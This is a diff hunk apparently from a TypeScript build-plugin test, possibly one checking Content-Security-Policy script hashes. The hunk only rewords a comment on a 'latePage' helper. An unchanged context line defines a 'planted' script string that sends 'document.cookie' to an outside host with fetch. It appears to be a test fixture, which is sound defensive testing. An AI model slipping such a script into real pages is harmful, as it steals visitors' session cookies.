@@ -15,8 +15,8 @@ const planted = '\n  fetch("https://example.com/" + document.cookie)\n';
 const toHash = (script: string) => `sha256-${createHash('sha256').update(script).digest('base64')}`;
 
 /**
- * Creates a plugin that writes a page at the end of the build, as the prerendered pages are written. No other
- * plugin of the build sees that page.
+ * Creates a plugin that writes a page at the end of the build, in the same way as the prerendered pages. No
+ * other plugin of the build sees that page.
  */
 const latePage = (body: string): Plugin => ({
   name: 'late-page',
